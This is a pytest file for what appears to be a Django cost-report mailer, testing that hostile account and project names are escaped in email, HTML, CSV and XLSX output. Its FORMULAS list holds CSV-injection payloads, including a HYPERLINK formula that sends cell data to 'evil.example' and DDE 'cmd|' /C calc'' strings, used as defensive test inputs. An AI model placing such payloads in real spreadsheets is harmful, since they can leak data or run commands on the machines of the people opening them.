"""Whatever the farm sends as names, and whatever an account is paid in."""

import re
from dataclasses import replace
from decimal import Decimal
from unicodedata import normalize

import pytest
from django.template.loader import render_to_string

from apps.costs.reports.mime import PicturedMail
from apps.costs.reports.render import report_mail, report_page_context
from apps.costs.reports.schema import (
    AccountName,
    Concern,
    Facts,
    Part,
    Series,
    Spend,
    TaskLine,
    facts_freeze,
    name_cut,
)
from tests.costs.mail_parts import Words, csv_rows, html_of, xlsx_rows
from tests.costs.report_samples import sample_chart, sample_facts, sample_report
from tests.dashboard.hostile_farm import TEXTS

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def told_of(name: str, currency: str = "CNY", amount: str = "12.125") -> Facts:
    """Facts in which everything that has a name has this one."""
    name = name_cut(name)
    money = Decimal(amount)
    chart = sample_chart(money, currency)
    chart = replace(chart, series=(Series(name=name, amounts=chart.series[0].amounts),))
    facts = sample_facts(3)
    return replace(
        facts,
        accounts=(AccountName(id=1, name=name, currency=currency, zone="UTC"),),
        projects=(name, ""),
        spend=(Spend(currency=currency, amount=money, usual=money, usual_of=9),),
        charts=(chart,),
        concerns=tuple(
            Concern(
                kind=kind,
                name=name,
                task=1,
                count=2,
                total=3,
                amount=money,
                limit=money,
                currency=currency,
                percent=90,
                text=name,
                state="refused" if kind == "account" else "",
            )
            for kind in ("account", "failed", "anomaly", "budget", "residue", "runway")
        ),
        budgets=tuple(replace(one, name=name) for one in facts.budgets),
        waste=tuple(
            replace(
                one,
                currency=currency,
                dearest=tuple(replace(dear, name=name) for dear in one.dearest),
            )
            for one in facts.waste
        ),
        outlook=tuple(replace(one, name=name) for one in facts.outlook),
        tasks=(
            TaskLine(
                task=1,
                name=name,
                currency=currency,
                amount=money,
                account=name,
                project=name,
                user=name,
                producer=name,
            ),
        ),
        by_project=(
            Part(name=name, currency=currency, amount=money),
            Part(name="", currency=currency, amount=money),
        ),
        corrections=tuple(replace(one, account=name) for one in facts.corrections),
    )


def mail_of(facts: Facts, language: str = "en") -> PicturedMail:
    """The facts as a mail."""
    report = sample_report(0)
    report.facts = facts_freeze(facts)
    return report_mail(
        report=report,
        address="producer@example.com",
        language=language,
        zone="UTC",
        unsubscribe_url="https://farm.example.net/end/",
    )


@pytest.mark.parametrize("text", TEXTS)
def test_markup_in_names_is_text(text: str) -> None:
    mail = mail_of(told_of(text))
    words = Words(html_of(mail))
    plain = Words(html_of(mail_of(told_of("plain"))))
    assert {tag for tag, _ in words.tags} == {tag for tag, _ in plain.tags}
    assert not [1 for _tag, attrs in words.tags for name in attrs if name[:2] == "on"]
    # Django's cutting of texts composes marks.
    shown = normalize("NFC", " ".join(name_cut(text).split())[:40])
    assert shown in normalize("NFC", words.said)


@pytest.mark.parametrize("text", TEXTS)
def test_names_leave_the_head_of_the_mail_alone(text: str) -> None:
    mail = mail_of(told_of(text))
    message = mail.message()
    assert mail.subject.startswith("2 things need you") or "task" in mail.subject
    assert "\n" not in mail.subject
    assert message["To"] == "producer@example.com"


@pytest.mark.parametrize("text", TEXTS)
def test_the_text_half_stays_readable(text: str) -> None:
    body = mail_of(told_of(text)).body
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b-\x1f]", body)
    assert body.count("Tasks by cost\n=============") == 1


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_spreadsheet_runs_a_name(formula: str) -> None:
    mail = mail_of(told_of(formula))
    rows = csv_rows(mail)
    texts = [
        cell for row in rows for cell in row if not re.fullmatch(r"-?[\d.]+", cell)
    ]
    assert not [cell for cell in texts if cell.startswith((*STARTS, "＝"))]
    assert rows[1][0] == f"'{name_cut(formula)}"
    sheet = xlsx_rows(mail)["Tasks"]
    assert sheet[1][0] == name_cut(formula)


def test_a_name_of_300_signs_bursts_nothing() -> None:
    mail = mail_of(told_of("W" * 300))
    assert "W" * 300 not in html_of(mail)
    assert "W" * 80 in html_of(mail)
    assert csv_rows(mail)[1][0] == "W" * 300
    assert xlsx_rows(mail)["Tasks"][1][0] == "W" * 300


def test_what_has_no_project_is_called_so() -> None:
    mail = mail_of(told_of("Harbour"))
    assert "Without a project" in Words(html_of(mail)).said
    assert "* Without a project" in mail.body
    names = [row[1] for row in xlsx_rows(mail)["Projects and accounts"]]
    assert names == ["Name", "Harbour", "Without a project"]


@pytest.mark.parametrize(
    ("currency", "amount", "shown", "chinese", "exact"),
    [
        ("JPY", "1200", "¥1,200.00", "JP¥1,200.00", "1200.00"),
        ("XQZ", "1200.5", "XQZ1,200.50", "XQZ1,200.50", "1200.50"),
        ("KWD", "0.125", "KWD0.125", "KWD0.125", "0.125"),
        ("CNY", "0.00000001", "CN¥0.00000001", "¥0.00000001", "0.00000001"),
        (
            "USD",
            "123456789.12345678",
            "$123,456,789.12345678",
            "US$123,456,789.12345678",
            "123456789.12345678",
        ),
        ("EUR", "-3.1", "-€3.10", "-€3.10", "-3.10"),
    ],
)
def test_any_currency_keeps_its_digits_everywhere(
    currency: str, amount: str, shown: str, chinese: str, exact: str
) -> None:
    facts = told_of("Harbour", currency, amount)
    said = {lang: mail_of(facts, lang) for lang in ("en", "zh-hans")}
    wanted = {"en": shown, "zh-hans": chinese}
    for language, mail in said.items():
        assert wanted[language] in mail.body
        assert wanted[language] in Words(html_of(mail)).said
        rows = csv_rows(mail)
        assert exact in rows[1] and currency in rows[1]
    cells = [str(cell) for cell in xlsx_rows(said["en"])["Tasks"][1]]
    assert any(cell == exact or _same(cell, exact) for cell in cells)


def _same(cell: str, exact: str) -> bool:
    try:
        return Decimal(cell) == Decimal(exact)
    except ArithmeticError:
        return False


@pytest.mark.parametrize("text", TEXTS[:6])
def test_the_page_is_as_careful_as_the_mail(text: str) -> None:
    report = sample_report(0)
    report.facts = facts_freeze(told_of(text))
    html = render_to_string(
        "reports/_report.html", report_page_context(report, "en", "UTC")
    )
    found = {tag for tag, _ in Words(html).tags}
    assert not found & {"script", "img", "hx-partial", "title", "textarea", "template"}
    assert not [
        1 for _t, attrs in Words(html).tags for name in attrs if name[:2] == "on"
    ]
